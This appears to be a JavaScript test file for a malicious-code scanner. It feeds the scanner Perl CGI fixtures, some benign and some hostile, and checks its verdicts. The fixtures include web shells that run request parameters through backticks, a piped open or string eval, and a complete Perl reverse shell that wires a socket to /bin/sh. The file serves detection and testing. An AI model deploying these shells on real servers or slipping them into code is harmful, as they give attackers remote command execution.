/**
 * Perl CGI mechanisms: a request parsed by hand (sysread of STDIN, QUERY_STRING split into a
 * hash in a long sub), commands run through a helper sub, a pipe opened on a quoted handle,
 * and reverse shells wired onto the socket they open. Each shell has a benign look-alike:
 * block eval, subs whose names start like a sink, a debugger that redirects its handles to its
 * terminal, a command-line tool reading its user's terminal. All fixtures are written here.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

/** A request parser written by hand, long enough that its `return` sits far from its start. */
const PARSER = [
  'sub init_cgi {',
  "  my $length = $ENV{'CONTENT_LENGTH'};",
  '  my (@assign, %formlist);',
  '  if (defined($length) and $length > 0) {',
  '    binmode STDIN;',
  '    sysread(STDIN, $_, $length);',
  '    $query = $_;',
  "    @assign = split('&', $query);",
  '    foreach (@assign) {',
  '      my ($name, $value) = split /=/;',
  '      $value =~ tr/+/ /;',
  '      $value =~ s/%([a-fA-F0-9][a-fA-F0-9])/pack("C", hex($1))/eg;',
  '      $formlist{$name} = $value;',
  '    }',
  '  }',
  // padding of the kind real parsers carry (multipart handling), so the body exceeds 1,500 characters
  ...Array.from({ length: 30 }, (_, i) => `  # multipart part ${i}: boundary, content-disposition, file name and value are split here`),
  '  return %formlist;',
  '}',
].join('\n');

test('perl: a hand-written request parser feeds a helper sub that runs its argument with backticks', () => {
  const code = `#!/usr/bin/perl\n${PARSER}\nsub ekse($) {\n  my $cmd = shift;\n  return \`$cmd\`;\n}\nmy %_VAR = &init_cgi;\nprint "Content-type: text/html\\n\\n";\nmy $out = &ekse($_VAR{'cmd'});\nprint $out;\n`;
  const f = findingOf('dev.cgi', code);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('request data reaches ekse(), which runs its argument with backticks'), reasons(f).join(' | '));
});

test('perl: the same helper sub called with fixed commands only is no finding', () => {
  const code = `#!/usr/bin/perl\n${PARSER}\nsub ekse($) {\n  my $cmd = shift;\n  return \`$cmd\`;\n}\nmy %_VAR = &init_cgi;\nprint "Content-type: text/html\\n\\n";\nprint &ekse("uptime");\nprint "Hello $_VAR{'name'}";\n`;
  // (only the weak 'command execution in a script that reads input', 3, below the threshold)
  assert.equal(findingOf('status.cgi', code), undefined);
});

test('perl: a pipe opened on a quoted handle with a request command', () => {
  const code = `#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $command = $q->param('c');\nprint $q->header;\nopen ("COMH", "$command |") or die "can't open: $!";\nprint <COMH>;\n`;
  const f = findingOf('pipe.cgi', code);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(
    reasons(f).some((r) => r.startsWith('request-derived variable reaches open')),
    reasons(f).join(' | '),
  );
});

test('perl: block eval, and subs named like eval/exec, are not code evaluation', () => {
  const code = `#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $v = $q->param('v');\nsub evaluate_query { my $x = shift; return length $x; }\nmy $n = evaluate_query($v);\neval { die "bad" if $n > 10; 1; } or print "too long";\nif (!defined($CGI::VERSION)) {\n  eval 'sub CGI::multi_param { CGI::param(@_) }'\n}\nprint $q->header, $n;\n`;
  assert.equal(findingOf('form.cgi', code), undefined);
});

test('perl: string eval of a request value still is', () => {
  const code = `#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $code = $q->param('e');\nprint $q->header;\neval $code;\n`;
  const f = findingOf('ev.cgi', code);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('request-derived variable reaches eval'), reasons(f).join(' | '));
});

const REVERSE = `#!/usr/bin/perl\nuse Socket;\nmy $shell = '/bin/sh -i';\nsocket(SOCK, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nconnect(SOCK, sockaddr_in($ARGV[1], inet_aton($ARGV[0])));\nopen STDIN, "<&SOCK";\nopen STDOUT, ">&SOCK";\nopen STDERR, ">&SOCK";\nsystem($shell);\n`;

test('perl: reverse shell wired onto the socket it opens (open without parentheses)', () => {
  assert.deepEqual(reasons(findingOf('rs.pl', REVERSE)), ['socket wired to a system shell (reverse/bind shell)']);
});

test('perl: a reverse shell whose handle wiring is not readable still names its shell next to the socket', () => {
  const code = REVERSE.replace(/open STD(IN|OUT|ERR), "[<>]&SOCK";/g, 'Redirect(STD$1, SOCK);');
  assert.deepEqual(reasons(findingOf('rs2.pl', code)), ['socket wired to a system shell (reverse/bind shell)']);
});

test('perl: a debugger that redirects its handles to its terminal around system(), with a remote port elsewhere, is no reverse shell', () => {
  const pad = Array.from({ length: 40 }, (_, i) => `# help text line ${i}: commands, options and the remote port setting are described here`).join('\n');
  const code = `#!/usr/bin/perl\nsub db_system {\n  open(SAVEIN, "<&STDIN");\n  open(STDIN, "<&IN");\n  open(STDOUT, ">&OUT");\n  system(@_);\n  open(STDIN, "<&SAVEIN");\n}\nsub shell_escape { db_system($ENV{SHELL} || "/bin/sh"); }\n${pad}\nsub remote {\n  require IO::Socket;\n  my $socket = IO::Socket::INET->new(PeerAddr => $remoteport, Proto => 'tcp');\n  return $socket;\n}\nopen(STDERR, ">/dev/null");\n`;
  assert.equal(findingOf('debugger.pl', code), undefined);
});

test('perl: outside a CGI program, standard input is the terminal, not the request', () => {
  const cli = `#!/usr/bin/perl\nprint "Patch name? ";\nmy $patch = <STDIN>;\nchomp $patch;\nsystem('vi', $patch);\n`;
  assert.equal(findingOf('tool.pl', cli), undefined);
  // the same read in a CGI program is the request body
  const cgi = `#!/usr/bin/perl\nprint "Content-type: text/plain\\n\\n";\nmy $cmd = <STDIN>;\nsystem($cmd);\n`;
  assert.equal(findingOf('body.cgi', cgi)?.verdict, 'malicious');
});
